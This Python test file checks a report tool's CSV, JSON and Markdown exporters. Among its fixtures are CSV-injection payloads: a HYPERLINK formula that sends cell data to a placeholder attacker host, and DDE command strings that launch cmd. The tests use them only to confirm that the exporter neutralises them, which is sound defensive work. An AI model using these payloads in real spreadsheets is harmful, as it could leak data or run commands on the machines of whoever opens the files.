"""Exports as the programs that read them see them: a CSV reader, a JSON loader, a
Markdown renderer (markdown-it, CommonMark with tables)."""

from __future__ import annotations

import csv
import io
import json
import re
from dataclasses import replace
from html import escape
from itertools import pairwise
from pathlib import Path
from typing import Any

from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from markdown_it.token import Token

from xihu_tui.core.export.formats import export_csv, export_json, export_markdown
from xihu_tui.core.export.markdown import markdown_cell, markdown_text
from xihu_tui.core.report.loader import loads_report
from xihu_tui.core.report.model import (
    Figure,
    Group,
    Metric,
    Note,
    Paragraph,
    Publication,
    Qualifier,
    Report,
    Section,
    SeriesPoint,
)
from xihu_tui.core.report.model_json import MODEL_JSON_VERSION, report_from_data
from xihu_tui.core.text.display import one_line

DOCS = Path(__file__).parent.parent / "docs"


def csv_rows(data: bytes) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "no UTF-8 byte-order mark"
    return list(csv.reader(io.StringIO(data[3:].decode("utf-8"), newline="")))


# -- CSV ------------------------------------------------------------------------------


def test_csv_has_a_row_per_metric_under_the_promised_columns(bundled_report: Report) -> None:
    rows = csv_rows(export_csv(bundled_report))
    assert rows[0] == ["id", "section", "label", "value", "unit", "qualifier", "group", "quote"]
    assert len(rows) == 1 + 39
    by_id = {row[0]: row for row in rows[1:]}
    # As data/report.toml states them.
    assert by_id["households-visited"] == [
        "households-visited",
        "epidemic",
        "洗楼扫楼户数",
        "660000",
        "户",
        "exact",
        "",
        "累计洗楼扫楼66万户",
    ]
    assert by_id["qinqing-payout"][3:7] == ["6000000000", "元", "more-than", "funds"]
    assert by_id["resolution-rate"][3] == "96.7"


def test_csv_keeps_commas_quotes_and_line_breaks_in_a_cell(minimal_report: str) -> None:
    label = 'say "户", then\nstop'
    report = loads_report(minimal_report.replace('label = "洗楼扫楼户数"', f"label = {json.dumps(label)}"))
    rows = csv_rows(export_csv(report))
    assert len(rows) == 2
    assert rows[1][2] == label


def test_csv_names_the_section_that_holds_a_nested_metric(nested_report: Report) -> None:
    rows = csv_rows(export_csv(nested_report))
    sections = {row[0]: row[1] for row in rows[1:]}
    assert sections["gdp"] == "economy"
    assert sections["industry-output"] == "industry"


FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""What makes a spreadsheet read a cell as a formula (OWASP, CSV injection)."""


def metric_row(**fields: Any) -> Report:
    """A report of one metric with these fields, unvalidated: an exporter must cope with any."""
    metric = replace(Metric(id="m", label="L", value=1.0, unit="", quote="Q", paragraph="p"), **fields)
    return Report("T", "zh-CN", (Section("s", "S", (Paragraph("p", "Q"),), metrics=(metric,)),))


def test_csv_cells_a_spreadsheet_would_run_are_written_as_text() -> None:
    report = metric_row(
        label='=HYPERLINK("http://evil.example/?q="&A1,"点击")',
        quote="=cmd|' /C calc'!A0",
        unit="@SUM(1+1)*cmd|' /C calc'!A0",
        id="-2+3",
        group="+1",
        value=-3.5,
    )
    [header, row] = csv_rows(export_csv(report))
    cells = dict(zip(header, row, strict=True))
    assert cells["label"] == '\'=HYPERLINK("http://evil.example/?q="&A1,"点击")'
    assert cells["quote"] == "'=cmd|' /C calc'!A0"
    assert cells["unit"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert cells["id"] == "'-2+3"
    assert cells["group"] == "'+1"
    # A number is a number: unquoted, without the quote mark, as a spreadsheet reads -3.5.
    assert cells["value"] == "-3.5"
    assert b",-3.5," in export_csv(report)


def test_csv_tab_and_carriage_return_at_a_cell_start_are_text() -> None:
    [_, row] = csv_rows(export_csv(metric_row(label="\tx", quote="\rx")))
    assert (row[2], row[7]) == ("'\tx", "'\rx")
    # Read with tabs or line breaks as separators, "=1+1" would start a cell of its own.
    [_, row] = csv_rows(export_csv(metric_row(label="\t=1+1", quote="\r=1+1")))
    assert (row[2], row[7]) == ("'\t'=1+1", "'\r'=1+1")


def test_csv_text_that_starts_no_formula_is_as_written(bundled_report: Report) -> None:
    rows = csv_rows(export_csv(bundled_report))
    assert [row[2] for row in rows[1:]] == [metric.label for metric in bundled_report.metrics]
    assert [row[7] for row in rows[1:]] == [metric.quote for metric in bundled_report.metrics]


def cells_read_with(data: bytes, delimiter: str) -> list[str]:
    return [
        cell
        for row in csv.reader(io.StringIO(data[3:].decode(), newline=""), delimiter=delimiter)
        for cell in row
    ]


def cells_split_at_every_separator(data: bytes) -> list[str]:
    """The cells of a reader that knows no quoting at all and splits wherever it could."""
    return [cell.lstrip('"') for cell in re.split(r"[,;\t\r\n]", data[3:].decode())]


def is_formula(cell: str) -> bool:
    """As a spreadsheet reads a cell: white space before a formula does not stop it; a number
    with a sign is a number."""
    start = cell.lstrip("\t\r\n")
    if not start.startswith(("=", "+", "-", "@")):
        return False
    try:
        float(start)
    except ValueError:
        return True
    return False


# Text with what breaks a CSV cell or starts a formula, much more often than by chance.
csv_texts = st.lists(
    st.characters(exclude_categories=("Cs",))
    | st.sampled_from([*FORMULA_STARTS, ",", ";", '"', "'", "\n", "|"]),
    max_size=12,
).map("".join)


@settings(max_examples=3 * settings.default.max_examples)
@given(
    label=csv_texts, quote=csv_texts, unit=csv_texts, value=st.floats(allow_nan=False, allow_infinity=False)
)
def test_no_reading_of_the_csv_finds_a_formula(label: str, quote: str, unit: str, value: float) -> None:
    data = export_csv(metric_row(label=label, quote=quote, unit=unit, value=value))
    [header, row] = csv_rows(data)
    cells = dict(zip(header, row, strict=True))
    for name, written in (("label", label), ("quote", quote), ("unit", unit)):
        text = written.replace("\x00", "␀")  # CSV cannot hold a NUL
        # The report's text, with at most a quote mark put before what would start a formula.
        assert cells[name].replace("'", "") == text.replace("'", ""), name
        if not any(start in text for start in FORMULA_STARTS):
            assert cells[name] == text, name
    assert float(cells["value"]) == value
    # A spreadsheet that expects ; or tabs (as in much of Europe) reads other cells: none
    # may start a formula either, nor may one that splits at every separator it could.
    for read in (
        cells_read_with(data, ";"),
        cells_read_with(data, "\t"),
        cells_split_at_every_separator(data),
    ):
        assert [cell for cell in read if is_formula(cell)] == []


def test_a_nul_in_the_text_is_written_as_a_picture_that_every_reader_reads() -> None:
    data = export_csv(metric_row(label="增加值\x00合计", quote="增长3%", unit="%", value=3.0))
    [header, row] = csv_rows(data)
    assert dict(zip(header, row, strict=True))["label"] == "增加值␀合计"


# -- JSON ------------------------------------------------------------------------------


def load_exported_json(data: bytes) -> Report:
    document = json.loads(data.decode("utf-8"))
    assert document["version"] == MODEL_JSON_VERSION
    return report_from_data(document["report"])


def test_json_round_trips_the_bundled_and_the_nested_report(
    bundled_report: Report, nested_report: Report
) -> None:
    for report in (bundled_report, nested_report):
        assert load_exported_json(export_json(report)) == report


def test_the_documented_json_version_is_the_one_written(bundled_report: Report) -> None:
    docs = (DOCS / "export.md").read_text(encoding="utf-8")
    assert f'"version": {MODEL_JSON_VERSION},' in docs
    assert json.loads(export_json(bundled_report))["version"] == MODEL_JSON_VERSION


# Reports come from UTF-8 files: their text has no lone surrogates.
texts = st.text(st.characters(exclude_categories=("Cs",)), max_size=12)
numbers = st.floats(allow_nan=False, allow_infinity=False)
ids = st.text("abcdefgh-0123", min_size=1, max_size=6)
optional_texts = st.none() | texts
languages = st.sampled_from(["zh", "en", "zh-CN"])
optional_notes = st.none() | st.lists(st.tuples(languages, texts), min_size=1, max_size=2).map(
    lambda texts: Note(tuple(texts))
)

metrics = st.builds(
    Metric,
    id=ids,
    label=texts,
    value=numbers,
    unit=texts,
    quote=texts,
    paragraph=ids,
    qualifier=st.sampled_from(Qualifier),
    group=st.none() | ids,
    series=st.lists(st.builds(SeriesPoint, texts, numbers, optional_texts), max_size=3).map(tuple),
    note=optional_notes,
    written=optional_texts,
    number=st.none() | st.integers(1, 5),
    occurrence=st.none() | st.integers(1, 5),
    quote_at=st.none() | st.integers(0, 50),
    figure=st.none() | ids,
    drafted=st.booleans(),
)
sections = st.recursive(
    st.builds(
        Section,
        id=ids,
        title=texts,
        paragraphs=st.lists(st.builds(Paragraph, ids, texts, optional_notes), max_size=2).map(tuple),
        figures=st.lists(
            st.builds(
                Figure,
                ids,
                texts,
                optional_texts,
                st.none() | ids,
                optional_notes,
                optional_texts,
                optional_texts,
                st.booleans(),
            ),
            max_size=2,
        ).map(tuple),
        metrics=st.lists(metrics, max_size=2).map(tuple),
        editorial=st.booleans(),
        note=optional_notes,
        after=st.none() | ids,
        drafted=st.booleans(),
    ),
    lambda children: st.builds(
        Section, id=ids, title=texts, sections=st.lists(children, min_size=1, max_size=2).map(tuple)
    ),
    max_leaves=4,
)
reports = st.builds(
    Report,
    title=texts,
    language=texts,
    sections=st.lists(sections, min_size=1, max_size=2).map(tuple),
    byline=optional_texts,
    place=optional_texts,
    period=optional_texts,
    published=st.none() | st.builds(Publication, st.dates(), st.booleans(), optional_notes),
    groups=st.lists(st.builds(Group, ids, texts, optional_notes), max_size=2).map(tuple),
    format_version=st.sampled_from([1, 2]),
    drafted=st.booleans(),
)


@given(reports)
def test_any_report_survives_the_json_export(report: Report) -> None:
    assert load_exported_json(export_json(report)) == report


# -- Markdown --------------------------------------------------------------------------

markdown = MarkdownIt("commonmark").enable("table")


def words(inline: Token) -> str | None:
    """The plain words of an inline token, or None if any of it was read as markup."""
    parts = []
    for child in inline.children or []:
        if child.type in ("text", "text_special"):
            parts.append(child.content)
        elif child.type == "softbreak":
            parts.append("\n")
        else:
            return None
    return "".join(parts)


def blocks(source: str) -> list[tuple[str, str | None]]:
    """Each block as (its opening tag, its words): ("h2", "经济"), ("p", "…"), ("td", "…")."""
    tokens = markdown.parse(source)
    return [(opening.tag, words(inline)) for opening, inline in pairwise(tokens) if inline.type == "inline"]


def test_markdown_headings_follow_the_section_depth(nested_report: Report) -> None:
    headings = [(tag, text) for tag, text in blocks(export_markdown(nested_report).decode()) if tag[0] == "h"]
    assert headings == [
        ("h1", "示例区年度报告"),
        ("h2", "经济"),
        ("h3", "工业"),
        ("h4", "数字产业"),
        ("h2", "社会"),
    ]


def test_markdown_holds_every_paragraph_and_caption_and_a_table_per_section(bundled_report: Report) -> None:
    source = export_markdown(bundled_report).decode()
    paragraphs = [text for tag, text in blocks(source) if tag == "p"]
    for paragraph in bundled_report.paragraphs:
        assert paragraph.text in paragraphs
    plenary = bundled_report.figures[0]
    html = markdown.render(source)
    assert f"<p><em>{escape(plenary.caption, quote=False)}</em> {plenary.credit}</p>" in html
    tokens = markdown.parse(source)
    tables = [token for token in tokens if token.type == "table_open"]
    assert len(tables) == sum(1 for section in bundled_report.walk() if section.metrics)
    cells = [text for tag, text in blocks(source) if tag == "td"]
    assert "累计洗楼扫楼66万户" in cells and "660,000" in cells


def test_markdown_shows_syntax_in_the_text_as_text(minimal_report: str) -> None:
    text = "# 不是标题 *不是强调* <b>不是HTML</b> [不是链接](x) a|b `c` &amp;"
    hostile = minimal_report.replace(
        'text = "累计洗楼扫楼66万户,解决问题4000余个。"',
        f"text = {json.dumps('1. ' + text + '累计洗楼扫楼66万户')}",
    )
    hostile = hostile.replace('label = "洗楼扫楼户数"', 'label = "a|b *c*"')
    source = export_markdown(loads_report(hostile)).decode()
    found = blocks(source)
    assert ("p", "1. " + text + "累计洗楼扫楼66万户") in found
    assert ("td", "a|b *c*") in found
    assert "<b>" not in markdown.render(source)


markdown_inputs = st.text(
    st.characters(exclude_categories=("Cs", "Cc")) | st.sampled_from("\n\t *_#`<>[]()!|&\\-+=~.)0123456789"),
    min_size=1,
)


@settings(max_examples=3 * settings.default.max_examples)
@given(markdown_inputs)
def test_any_text_reads_back_as_exactly_its_words(text: str) -> None:
    lines = [line.strip(" \t") for line in text.split("\n")]
    source = markdown_text(text)
    expected = [("p", "\n".join(lines))] if all(lines) else None
    if expected is None:  # blank lines part paragraphs; each paragraph still reads as its words
        expected = [
            ("p", part.strip("\n")) for part in re.split(r"\n\n+", "\n".join(lines)) if part.strip("\n")
        ]
    assert blocks(source) == expected


@settings(max_examples=3 * settings.default.max_examples)
@given(markdown_inputs)
def test_any_text_reads_back_from_a_table_cell(text: str) -> None:
    source = f"| a |\n| --- |\n| {markdown_cell(text)} |\n"
    assert blocks(source)[-1] == ("td", one_line(text))


def test_the_publication_date_says_it_was_inferred_and_how(bundled_report: Report) -> None:
    published = bundled_report.published
    assert published is not None and published.inferred and published.note
    source = export_markdown(bundled_report).decode()
    stated = [text for _, text in blocks(source) if text and "2020-12-29" in text]
    assert len(stated) == 1
    assert "inferred" in stated[0] and published.note.texts[0][1] in stated[0]
